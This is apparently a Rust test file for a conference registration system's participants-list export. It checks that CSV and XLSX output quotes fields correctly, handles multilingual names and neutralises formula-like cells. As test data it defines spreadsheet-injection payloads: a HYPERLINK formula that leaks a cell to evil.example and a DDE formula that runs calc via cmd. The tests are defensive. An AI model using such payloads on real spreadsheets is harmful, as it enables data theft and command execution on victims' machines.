//! The participants list on a real workspace: the CSV read back by the csv crate's reader, the XLSX by an independent
//! reader (Python's openpyxl), with registrants who typed formulas, quotes, commas, line breaks and names in Chinese
//! and Arabic.

use std::io::Write;
use std::process::Command;

use chrono::{DateTime, Utc};
use dais_core::registrations::participants_list::{ListColumn, ListFormat, csv_cell, formula_like};
use dais_core::registrations::{RegistrationQuery, RegistrationSort};
use dais_core::seed::{add_bulk_registrations, bulk_registration, create_demo, demo_event_id};
use dais_core::*;
use serde_json::Value;
use tempfile::TempDir;

fn at(s: &str) -> DateTime<Utc> {
    s.parse().unwrap()
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for your badge\")";
const DDE: &str = "=cmd|' /C calc'!A0";

/// The demo meeting (five registrations) and four registrants whose fields a spreadsheet could misread.
pub(crate) fn workspace() -> (TempDir, Store, Vec<Registration>) {
    let dir = TempDir::new().unwrap();
    let mut store = Store::open(&dir.path().join("ws.dais")).unwrap();
    create_demo(&mut store).unwrap();
    let mut hostile = Vec::new();

    let mut r = bulk_registration(1);
    r.given_name = HYPERLINK.into();
    r.family_name = "+1 Plus".into();
    r.organisation = "-2 Minus".into();
    r.position = Some("@SUM(A1:A9)".into());
    r.private_notes = "\tbegins with a tab".into();
    r.email = "evil@example.org".into();
    r.submitted_at = at("2025-10-20T09:30:00Z");
    r.decision = Decision {
        status: RegistrationStatus::Rejected,
        decided_by: Some(DDE.into()),
        decided_at: Some(at("2025-10-28T11:00:00Z")),
        reason: Some("\rbegins with a carriage return".into()),
        earlier: Vec::new(),
    };
    hostile.push(r);

    let mut r = bulk_registration(2);
    r.given_name = "Zoë".into();
    r.family_name = "Müller, \"the\" Elder".into();
    r.organisation = "Département des Télécommunications\r\nGenève; Bern".into();
    r.country = "DE".into();
    r.position = Some("Directrice générale – 1ʳᵉ".into());
    r.email = "zoe.muller@example.de".into();
    r.submitted_at = at("2025-10-20T09:31:00Z");
    hostile.push(r);

    let mut r = bulk_registration(3);
    r.given_name = "娜".into();
    r.family_name = "李".into();
    r.organisation = "中国信息通信研究院".into();
    r.country = "CN".into();
    r.email = "li.na@example.cn".into();
    r.position = None;
    r.submitted_at = at("2025-10-20T09:32:00Z");
    hostile.push(r);

    let mut r = bulk_registration(4);
    r.category = ParticipantCategory::Academia;
    r.given_name = "محمد".into();
    r.family_name = "العلي".into();
    r.organisation = "هيئة الاتصالات والفضاء والتقنية".into();
    r.country = "SA".into();
    r.email = "m.alali@example.sa".into();
    r.attended = true;
    r.submitted_at = at("2025-10-20T09:33:00Z");
    hostile.push(r);

    for r in &hostile {
        store.save_registration(r).unwrap();
    }
    (dir, store, hostile)
}

fn query() -> RegistrationQuery {
    RegistrationQuery::of(demo_event_id(), 1)
}

fn csv_of(store: &Store, query: &RegistrationQuery, columns: &[ListColumn]) -> (Vec<u8>, u64) {
    let mut out = Vec::new();
    let rows = store.participants_list(query, columns, ListFormat::Csv, &mut out).unwrap();
    (out, rows)
}

/// The CSV's records, header first, read by the csv crate (the BOM checked and taken off).
fn read_csv(bytes: &[u8]) -> Vec<Vec<String>> {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("the CSV begins with UTF-8's byte order mark");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn the_rule_is_owasps_leading_characters() {
    for text in ["=1+2", "+1", "-2", "@SUM(A1)", "\tx", "\rx", HYPERLINK, DDE] {
        assert!(formula_like(text), "{text:?}");
        assert_eq!(csv_cell(text), format!("'{text}"));
    }
    for text in ["", "Ana", "1+2", "a=b", "Jean-Luc", " =1", "'=1", "é", "李"] {
        assert!(!formula_like(text), "{text:?}");
        assert_eq!(csv_cell(text), text);
    }
}

#[test]
fn csv_has_a_bom_crlf_rfc4180_quoting_and_formula_like_cells_neutralised() {
    let (_dir, store, hostile) = workspace();
    let (bytes, rows) = csv_of(&store, &query(), &ListColumn::ALL);
    assert_eq!(rows, 9, "the demo's five and the four");
    let text = std::str::from_utf8(&bytes).unwrap();
    assert!(text.ends_with("\r\n"));
    assert!(!text.replace("\r\n", "").contains("\r\n"), "records end with CRLF");
    assert!(text.contains("\"Müller, \"\"the\"\" Elder\""), "commas and quotes quoted as RFC 4180 says: {text}");

    let records = read_csv(&bytes);
    assert_eq!(records.len(), 10, "the header and nine rows");
    let header: Vec<&str> = records[0].iter().map(String::as_str).collect();
    assert_eq!(
        header,
        [
            "Name",
            "Given name",
            "Family name",
            "Email",
            "Organisation",
            "Position",
            "Country",
            "Country code",
            "Category",
            "Status",
            "Submitted (Europe/Zurich)",
            "Decided by",
            "Decided (Europe/Zurich)",
            "Reason",
            "Source",
            "Agrees to be listed",
            "Attended",
            "Private notes",
            "Registration id",
        ]
    );
    let row = |id: uuid::Uuid| records.iter().find(|r| r[18] == id.to_string()).expect("a row of each registration");

    let evil = row(hostile[0].id);
    assert_eq!(evil[0], format!("'{HYPERLINK} +1 Plus"));
    assert_eq!(evil[1], format!("'{HYPERLINK}"));
    assert_eq!(evil[2], "'+1 Plus");
    assert_eq!(evil[4], "'-2 Minus");
    assert_eq!(evil[5], "'@SUM(A1:A9)");
    assert_eq!(evil[9], "Rejected");
    assert_eq!(evil[10], "2025-10-20 11:30", "summer time in Geneva");
    assert_eq!(evil[11], format!("'{DDE}"));
    assert_eq!(evil[12], "2025-10-28 12:00", "winter time in Geneva");
    assert_eq!(evil[13], "'\rbegins with a carriage return");
    assert_eq!(evil[17], "'\tbegins with a tab");
    for record in &records {
        for cell in record {
            assert!(!formula_like(cell), "no cell begins like a formula: {cell:?}");
        }
    }

    let zoe = row(hostile[1].id);
    assert_eq!(
        zoe[..8],
        [
            "Zoë Müller, \"the\" Elder",
            "Zoë",
            "Müller, \"the\" Elder",
            "zoe.muller@example.de",
            "Département des Télécommunications\r\nGenève; Bern",
            "Directrice générale – 1ʳᵉ",
            "Germany",
            "DE"
        ]
    );
    let li = row(hostile[2].id);
    assert_eq!(li[..7], ["李娜", "娜", "李", "li.na@example.cn", "中国信息通信研究院", "", "China"]);
    let ali = row(hostile[3].id);
    assert_eq!(ali[..5], ["محمد العلي", "محمد", "العلي", "m.alali@example.sa", "هيئة الاتصالات والفضاء والتقنية"]);
    assert_eq!((ali[9].as_str(), ali[11].as_str(), ali[12].as_str(), ali[16].as_str()), ("Pending", "", "", "Yes"));
    assert_eq!(ali[8], "ITU Academia");
    assert_eq!(ali[14], "Website form");
}

#[test]
fn the_list_is_what_the_table_finds_in_its_order_with_the_columns_picked() {
    let (_dir, mut store, _) = workspace();
    add_bulk_registrations(&mut store, 2_500).unwrap();
    for q in [
        query(),
        RegistrationQuery { sort: RegistrationSort::Name, descending: true, ..query() },
        RegistrationQuery { search: "family12".into(), ..query() },
        RegistrationQuery { statuses: vec![RegistrationStatus::Approved, RegistrationStatus::Rejected], ..query() },
        RegistrationQuery { countries: vec!["cn".into(), "de".into()], ..query() },
        RegistrationQuery { categories: vec![ParticipantCategory::Resolution99], ..query() },
    ] {
        let ids = store.registration_ids(&q).unwrap();
        let (bytes, rows) = csv_of(&store, &q, &[ListColumn::Id, ListColumn::FamilyName]);
        let records = read_csv(&bytes);
        assert_eq!(records[0], ["Registration id", "Family name"]);
        let listed: Vec<String> = records[1..].iter().map(|r| r[0].clone()).collect();
        let expected: Vec<String> = ids.iter().map(|id| id.to_string()).collect();
        assert_eq!(listed, expected, "{q:?}");
        assert_eq!(rows as usize, ids.len());
        assert!(!ids.is_empty(), "each query finds some: {q:?}");
    }
    // Every one of 2,509, not a page of them; the default columns.
    let (bytes, rows) = csv_of(&store, &query(), &ListColumn::DEFAULT);
    assert_eq!(rows, 2_509);
    let records = read_csv(&bytes);
    assert_eq!(records.len(), 2_510);
    assert_eq!(
        records[0],
        [
            "Family name",
            "Given name",
            "Email",
            "Organisation",
            "Country",
            "Category",
            "Status",
            "Submitted (Europe/Zurich)"
        ]
    );
}

#[test]
fn no_columns_an_unknown_meeting_and_a_failing_write_are_errors() {
    let (_dir, store, _) = workspace();
    let err = store.participants_list(&query(), &[], ListFormat::Csv, Vec::new()).unwrap_err();
    assert_eq!(err.code(), "invalid");
    let unknown = RegistrationQuery::of(new_id(), 1);
    let err = store.participants_list(&unknown, &ListColumn::DEFAULT, ListFormat::Xlsx, Vec::new()).unwrap_err();
    assert_eq!(err.code(), "not_found");

    /// A disk that fills after `room` bytes.
    struct Full {
        room: usize,
    }
    impl Write for Full {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            if buf.len() > self.room {
                return Err(std::io::Error::from(std::io::ErrorKind::StorageFull));
            }
            self.room -= buf.len();
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    for format in [ListFormat::Csv, ListFormat::Xlsx] {
        for room in [0, 100] {
            let err = store.participants_list(&query(), &ListColumn::ALL, format, Full { room }).unwrap_err();
            assert_eq!(err.code(), "io", "{format:?} {room}");
            assert!(err.to_string().starts_with("the participants list cannot be written: "), "{err}");
        }
    }
}

#[test]
fn format_by_extension() {
    use std::path::Path;
    assert_eq!(ListFormat::of_path(Path::new("list.csv")), Some(ListFormat::Csv));
    assert_eq!(ListFormat::of_path(Path::new("/tmp/List.XLSX")), Some(ListFormat::Xlsx));
    assert_eq!(ListFormat::of_path(Path::new("list.xls")), None);
    assert_eq!(ListFormat::of_path(Path::new("list")), None);
}

/// A Python with openpyxl: `$DAIS_PYTHON`, else `python3`, else Debian's `/usr/bin/python3` (`scripts/setup.sh test`
/// installs python3-openpyxl). Fails when there is none: the XLSX must be read back, not assumed right.
fn python_with_openpyxl() -> String {
    let candidates = std::env::var("DAIS_PYTHON").into_iter().chain(["python3".into(), "/usr/bin/python3".into()]);
    for python in candidates {
        let found = Command::new(&python).args(["-c", "import openpyxl"]).output();
        if found.is_ok_and(|o| o.status.success()) {
            return python;
        }
    }
    panic!(
        "no python3 with openpyxl to read the XLSX back: `scripts/setup.sh test` installs Debian's python3-openpyxl \
         (or `pip install openpyxl`, or set DAIS_PYTHON to a Python that has it)"
    );
}

/// What openpyxl reads of the workbook, as JSON: the sheet's title, frozen panes, filter, column widths, and each
/// cell's value, data type, quote prefix, number format and boldness.
const READ_BACK: &str = r#"
import datetime, json, re, sys
import openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
ws = wb.active
def cell(c):
    v = c.value
    if isinstance(v, datetime.datetime):
        v = v.isoformat()
    elif isinstance(v, str):
        # Control characters are stored as Excel escapes them (_x000D_ for a carriage return), which Excel reads back as
        # the character; openpyxl leaves them in inline strings.
        v = re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), v)
    return {"v": v, "t": c.data_type, "q": bool(c.quotePrefix), "f": c.number_format, "b": bool(c.font.b)}
print(json.dumps({
    "sheets": wb.sheetnames,
    "title": ws.title,
    "freeze": ws.freeze_panes,
    "filter": ws.auto_filter.ref,
    "widths": {k: d.width for k, d in ws.column_dimensions.items()},
    "right_to_left": bool(ws.sheet_view.rightToLeft),
    "rows": [[cell(c) for c in row] for row in ws.iter_rows()],
}))
"#;

fn read_xlsx(path: &std::path::Path) -> Value {
    let python = python_with_openpyxl();
    let out = Command::new(&python).arg("-c").arg(READ_BACK).arg(path).output().unwrap();
    assert!(out.status.success(), "openpyxl could not read the XLSX: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn xlsx_read_back_by_openpyxl_has_the_header_the_values_and_no_formulas() {
    let (dir, store, hostile) = workspace();
    let path = dir.path().join("participants.xlsx");
    let columns = [
        ListColumn::FamilyName,
        ListColumn::GivenName,
        ListColumn::Organisation,
        ListColumn::Position,
        ListColumn::Country,
        ListColumn::Status,
        ListColumn::SubmittedAt,
        ListColumn::DecidedBy,
        ListColumn::DecidedAt,
        ListColumn::Reason,
        ListColumn::PrivateNotes,
        ListColumn::Id,
    ];
    let file = std::fs::File::create(&path).unwrap();
    let rows = store.participants_list(&query(), &columns, ListFormat::Xlsx, file).unwrap();
    assert_eq!(rows, 9);

    let book = read_xlsx(&path);
    assert_eq!(book["sheets"], serde_json::json!(["Participants"]));
    assert_eq!(book["freeze"], "A2", "the header row stays in view");
    assert_eq!(book["filter"], "A1:L10");
    assert!(book["widths"]["C"].as_f64().unwrap() > 30.0, "organisations are wide: {}", book["widths"]);
    let sheet = book["rows"].as_array().unwrap();
    assert_eq!(sheet.len(), 10, "the header and nine rows");

    let header: Vec<&str> = sheet[0].as_array().unwrap().iter().map(|c| c["v"].as_str().unwrap()).collect();
    let labels: Vec<String> = columns.iter().map(|c| c.header(chrono_tz::Europe::Zurich, Lang::En)).collect();
    assert_eq!(header, labels);
    assert!(sheet[0].as_array().unwrap().iter().all(|c| c["b"] == true), "the header is bold");

    // Every cell is a string, a date or empty: never a formula.
    for row in sheet {
        for c in row.as_array().unwrap() {
            assert!(["s", "d", "n"].contains(&c["t"].as_str().unwrap()), "{c}");
            assert!(c["t"] != "n" || c["v"].is_null(), "numbers only for empty cells: {c}");
        }
    }
    let row = |id: uuid::Uuid| {
        sheet
            .iter()
            .map(|r| r.as_array().unwrap())
            .find(|r| r[11]["v"] == id.to_string())
            .expect("a row of each registration")
    };

    // Formula-like values: the text as typed, a string, with Excel's quote prefix; the others without it.
    let evil = row(hostile[0].id);
    for (i, text) in [
        (0, "+1 Plus"),
        (1, HYPERLINK),
        (2, "-2 Minus"),
        (3, "@SUM(A1:A9)"),
        (7, DDE),
        (9, "\rbegins with a carriage return"),
        (10, "\tbegins with a tab"),
    ] {
        assert_eq!(evil[i]["v"], text, "column {i}");
        assert_eq!(evil[i]["t"], "s", "column {i}");
        assert_eq!(evil[i]["q"], true, "column {i}");
    }
    assert_eq!((evil[5]["v"].as_str(), evil[5]["q"].as_bool()), (Some("Rejected"), Some(false)));
    // Times: real dates, in Geneva's wall-clock time.
    assert_eq!((evil[6]["v"].as_str(), evil[6]["t"].as_str()), (Some("2025-10-20T11:30:00"), Some("d")));
    assert_eq!(evil[6]["f"], "yyyy-mm-dd hh:mm");
    assert_eq!(evil[8]["v"], "2025-10-28T12:00:00");

    let zoe = row(hostile[1].id);
    let values: Vec<&Value> = zoe[..5].iter().map(|c| &c["v"]).collect();
    assert_eq!(
        values,
        [
            "Müller, \"the\" Elder",
            "Zoë",
            "Département des Télécommunications\r\nGenève; Bern",
            "Directrice générale – 1ʳᵉ",
            "Germany"
        ]
    );
    assert_eq!(zoe[0]["q"], false);
    let li = row(hostile[2].id);
    assert_eq!((&li[0]["v"], &li[1]["v"], &li[2]["v"]), (&"李".into(), &"娜".into(), &"中国信息通信研究院".into()));
    assert!(li[3]["v"].is_null(), "no position: an empty cell");
    let ali = row(hostile[3].id);
    assert_eq!((&ali[0]["v"], &ali[1]["v"]), (&"العلي".into(), &"محمد".into()));
    assert!(ali[7]["v"].is_null() && ali[8]["v"].is_null(), "not decided yet: empty cells");
}

#[test]
fn an_empty_list_is_a_header_row() {
    let (dir, store, _) = workspace();
    let nobody = RegistrationQuery { search: "nobody by this name".into(), ..query() };
    let (bytes, rows) = csv_of(&store, &nobody, &[ListColumn::Name]);
    assert_eq!((rows, bytes.as_slice()), (0, "\u{feff}Name\r\n".as_bytes()));
    let path = dir.path().join("empty.xlsx");
    let rows =
        store.participants_list(&nobody, &[ListColumn::Name], ListFormat::Xlsx, std::fs::File::create(&path).unwrap());
    assert_eq!(rows.unwrap(), 0);
    let book = read_xlsx(&path);
    assert_eq!(book["rows"], serde_json::json!([[{"v": "Name", "t": "s", "q": false, "f": "General", "b": true}]]));
}

/// The names easy to get wrong, in the six languages (tests/data): code, then en, fr, es, ru, zh, ar.
fn names_easy_to_get_wrong() -> Vec<Vec<String>> {
    include_str!("data/countries-easy-to-get-wrong.tsv")
        .lines()
        .filter(|l| !l.starts_with('#'))
        .map(|l| l.split('\t').map(str::to_string).collect())
        .collect()
}

const COLUMN_OF: [(Lang, usize); 6] =
    [(Lang::En, 1), (Lang::Fr, 2), (Lang::Es, 3), (Lang::Ru, 4), (Lang::Zh, 5), (Lang::Ar, 6)];

#[test]
fn a_list_in_each_language_says_its_words_and_names_each_country_as_the_un_does() {
    let (dir, mut store, _) = workspace();
    let easy = names_easy_to_get_wrong();
    for (n, row) in easy.iter().enumerate() {
        let mut r = bulk_registration(100 + n);
        r.country = row[0].clone();
        r.given_name = format!("Given{n}");
        r.family_name = format!("Easy{n}");
        r.consent_to_be_listed = n % 2 == 0;
        store.save_registration(&r).unwrap();
    }
    let columns = [ListColumn::FamilyName, ListColumn::Country, ListColumn::Category, ListColumn::ConsentToBeListed];
    for (lang, column) in COLUMN_OF {
        let q = RegistrationQuery { search: "easy".into(), lang: Some(lang), ..query() };
        let path = dir.path().join(format!("participants-{lang}.xlsx"));
        store.participants_list(&q, &columns, ListFormat::Xlsx, std::fs::File::create(&path).unwrap()).unwrap();
        let book = read_xlsx(&path);
        let rows = book["rows"].as_array().unwrap();
        let value = |row: usize, cell: usize| rows[row][cell]["v"].as_str().unwrap_or("").to_string();
        for (n, easy) in easy.iter().enumerate() {
            let row = (1..rows.len()).find(|&i| value(i, 0) == format!("Easy{n}")).expect("every registrant listed");
            assert_eq!(value(row, 1), easy[column], "{} in {lang}", easy[0]);
        }
        assert_eq!(book["right_to_left"], lang == Lang::Ar, "an Arabic sheet reads from the right");
        let header: Vec<String> = (0..4).map(|i| value(0, i)).collect();
        match lang {
            Lang::Fr => {
                assert_eq!(header, ["Nom de famille", "Pays", "Catégorie", "Accepte de figurer sur la liste"]);
                assert_eq!(book["title"], "Participants");
                assert!(rows[1..].iter().all(|r| ["Oui", "Non"].contains(&r[3]["v"].as_str().unwrap())));
            }
            Lang::Ru => {
                assert_eq!(header[1], "Страна");
                let russian: Vec<String> = ParticipantCategory::ALL.iter().map(|c| c.label(Lang::Ru)).collect();
                assert!(russian.contains(&value(1, 2)), "a category in Russian: {}", value(1, 2));
            }
            Lang::Ar => assert_eq!(book["title"], "المشاركون"),
            _ => {}
        }
    }
    // The CSV says the same words.
    let q = RegistrationQuery { search: "easy0".into(), lang: Some(Lang::Es), ..query() };
    let records = read_csv(&csv_of(&store, &q, &[ListColumn::Country, ListColumn::SubmittedAt]).0);
    assert_eq!(records[0], ["País", "Enviada el (Europe/Zurich)"]);
    assert_eq!(records[1][0], "Côte d’Ivoire");
}

#[test]
fn names_sort_as_the_language_shown_reads_them_and_are_written_in_their_own_order() {
    let (_dir, mut store, _) = workspace();
    for (n, (given, family)) in [
        ("Élodie", "Zed"),
        ("Ana", "Éluard"),
        ("Bea", "Ezra"),
        ("Carl", "Eames"),
        ("小明", "王"),
        ("娜", "李"),
        ("伟", "张"),
    ]
    .into_iter()
    .enumerate()
    {
        let mut r = bulk_registration(200 + n);
        (r.given_name, r.family_name) = (given.into(), family.into());
        r.organisation = "Sorted".into();
        store.save_registration(&r).unwrap();
    }
    let names = |lang: Lang| -> Vec<String> {
        let q =
            RegistrationQuery { search: "sorted".into(), sort: RegistrationSort::Name, lang: Some(lang), ..query() };
        let records = read_csv(&csv_of(&store, &q, &[ListColumn::Name]).0);
        records[1..].iter().map(|r| r[0].clone()).collect()
    };
    // French: É beside E (Eames, Éluard, Ezra), by family name; a Chinese name family name first, without a space.
    let french = names(Lang::Fr);
    assert_eq!(&french[..4], ["Carl Eames", "Ana Éluard", "Bea Ezra", "Élodie Zed"]);
    // Chinese: the Chinese names first, by pinyin (Li, Wang, Zhang), as CLDR's Chinese order puts Han before Latin.
    let chinese = names(Lang::Zh);
    assert_eq!(&chinese[..3], ["李娜", "王小明", "张伟"]);
    // Searching finds a Chinese name written whole, and a part of it.
    for typed in ["王小明", "小明"] {
        let q = RegistrationQuery { search: typed.into(), ..query() };
        assert_eq!(store.registration_page(&q).unwrap().matching, 1, "{typed}");
    }
}
